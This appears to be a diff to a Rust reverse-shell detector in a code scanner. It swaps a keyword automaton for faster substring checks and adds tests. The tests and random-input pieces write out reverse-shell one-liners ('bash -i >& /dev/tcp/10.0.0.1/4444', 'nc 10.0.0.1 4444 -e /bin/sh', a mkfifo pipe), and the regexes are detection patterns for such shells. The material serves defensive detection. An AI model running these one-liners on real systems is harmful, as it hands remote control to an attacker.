@@ -14,7 +14,6 @@ use super::context;
 use super::pysrc::{self, Kind, MAX_HITS_PER_FILE};
 use crate::model::{Category, Severity};
 use crate::scan::detector::{Detector, DetectorMeta, Hit, Hits, Interest, TextFile};
-use aho_corasick::AhoCorasick;
 use regex::Regex;
 use std::sync::LazyLock;
 
@@ -32,15 +31,25 @@ static CONNECT: LazyLock<Regex> =
 static WIRE: LazyLock<Regex> = LazyLock::new(|| {
     Regex::new(r#"(?-u:\b)(?:os\.)?dup2\s*\(\s*\w+\.fileno\(\)\s*,\s*(?:[012]|sys\.std(?:in|out|err)\.fileno\(\))\s*\)|(?-u:\b)pty\.spawn\s*\(|subprocess\.(?:call|Popen|run)\s*\(\s*\[?\s*['"](?:/bin/)?(?:sh|bash|zsh|cmd(?:\.exe)?|powershell(?:\.exe)?)['"][^)]*std(?:in|out)\s*=\s*\w+"#).expect("wire")
 });
-/// Words every [`ONE_LINER`] match contains (case-insensitively): `/dev/` (the `/dev/tcp`
-/// forms), `-e` and each character `\s+` can take after it (`nc -e sh`, `nc -e cmd`: the
-/// Unicode whitespace [`SPACES`]; a bare `-e` is in every `non-empty` and `--exclude`),
-/// `mkfifo`. Its gate ([`TextFile::may_contain_ci`]).
-static ONE_LINER_WORDS: LazyLock<AhoCorasick> = LazyLock::new(|| {
-    let dash_e: Vec<String> = SPACES.iter().map(|c| format!("-e{c}")).collect();
-    let words = ["/dev/", "mkfifo"].into_iter().chain(dash_e.iter().map(String::as_str));
-    super::pysrc::gate(&words.collect::<Vec<_>>())
-});
+/// Whether the member may hold a [`ONE_LINER`] match: its lowercased copy
+/// ([`TextFile::ascii_lowercase`], shared with the other gates) holds a word every match contains
+/// (case-insensitively): `/dev/tcp` or `/dev/udp` (the `/dev/tcp` forms; not every `/dev/null`),
+/// `mkfifo`, or `-e` followed by a character `\s+` can take (`nc -e sh`, `nc -e cmd`: the Unicode
+/// whitespace [`SPACES`]; a bare `-e` is in every `non-empty` and `--exclude`). Three `memmem`
+/// passes and a look after each `-e`, instead of an automaton of 27 words that visited every byte.
+/// A member without the copy (it holds `ſ` or the Kelvin sign) may always hold one.
+fn may_hold_one_liner(file: &TextFile<'_>) -> bool {
+    let Some(lower) = file.ascii_lowercase() else {
+        return true;
+    };
+    let b = lower.as_bytes();
+    let holds = |w: &[u8]| memchr::memmem::find(b, w).is_some();
+    holds(b"/dev/tcp")
+        || holds(b"/dev/udp")
+        || holds(b"mkfifo")
+        || memchr::memmem::find_iter(b, b"-e")
+            .any(|i| lower[i + 2..].chars().next().is_some_and(|c| SPACES.contains(&c)))
+}
 /// The characters `\s` matches (Unicode `White_Space`; tested against the regex crate).
 const SPACES: [char; 25] = [
     '\t', '\n', '\x0b', '\x0c', '\r', ' ', '\u{85}', '\u{a0}', '\u{1680}', '\u{2000}', '\u{2001}', '\u{2002}',
@@ -75,7 +84,7 @@ impl Detector for ReverseShell {
         let sev = Some(context::cap(file, Severity::Critical));
         let src = file.source();
         let mut n = 0;
-        let one_liners = file.may_contain_ci(&ONE_LINER_WORDS).then(|| ONE_LINER.find_iter(file.text));
+        let one_liners = may_hold_one_liner(file).then(|| ONE_LINER.find_iter(file.text));
         for m in one_liners.into_iter().flatten() {
             if n >= MAX_HITS_PER_FILE {
                 return;
@@ -162,12 +171,65 @@ mod tests {
             ("nc -e before a no-break space", "é nc -e\u{a0}sh", true),
             ("nc -e before an ideographic space", "nc -e\u{3000}cmd", true),
             ("non-ASCII text without a word", "é non-empty\u{a0}x", false),
+            ("/dev/null is no one-liner", "subprocess.run(cmd, stdout=open('/dev/null'))", false),
+            ("/dev/udp", "sh -i >& /DEV/UDP/10.0.0.1/53 0>&1", true),
+            ("a Kelvin sign: no lowercased copy", "\u{212a} mkfifo /tmp/f; nc h 1 < /tmp/f", true),
         ];
         for (case, text, matches) in cases {
             assert_eq!(ONE_LINER.is_match(text), matches, "{case}: the regex");
             let file = TextFile::new("pkg/a.py", crate::model::FileRole::Runtime, true, text);
-            assert_eq!(file.may_contain_ci(&ONE_LINER_WORDS), matches, "{case}: the gate");
+            assert_eq!(may_hold_one_liner(&file), matches, "{case}: the gate");
         }
+        // Random texts of the one-liners' pieces: the gate never says no where the regex matches.
+        let pieces = [
+            "bash",
+            "sh",
+            " -i",
+            " -I",
+            " >& ",
+            "/dev/",
+            "/DEV/",
+            "tcp/",
+            "udp/",
+            "null",
+            "10.0.0.1",
+            "/4444",
+            "nc ",
+            "NCAT ",
+            "-e",
+            "-E",
+            " ",
+            "\t",
+            "\u{a0}",
+            "\u{3000}",
+            "/bin/sh",
+            "cmd",
+            "mkfifo ",
+            "mKfifo ",
+            "/tmp/f",
+            "; ",
+            "cat",
+            "0<&196;",
+            "exec ",
+            "196<>",
+            "é",
+            "\n",
+            "non-empty",
+            "bash -i >& /dev/tcp/10.0.0.1/4444",
+            "nc 10.0.0.1 4444 -e /bin/sh",
+            "mkfifo /tmp/f; cat",
+            "NCAT -E CMD",
+        ];
+        let (mut matched, mut gated) = (0, 0);
+        for text in super::super::pysrc::random_texts(&pieces, 20, 0xbb67_ae85_84ca_a73bu64, 4000) {
+            let file = TextFile::new("pkg/a.py", crate::model::FileRole::Runtime, true, &text);
+            let gate = may_hold_one_liner(&file);
+            let hit = ONE_LINER.is_match(&text);
+            assert!(gate || !hit, "{text:?}: the gate hides a match");
+            matched += usize::from(hit);
+            gated += usize::from(!gate);
+        }
+        assert!(matched > 300 && gated > 300, "the random texts match ({matched}) and are gated out ({gated})");
     }
 
     #[test]
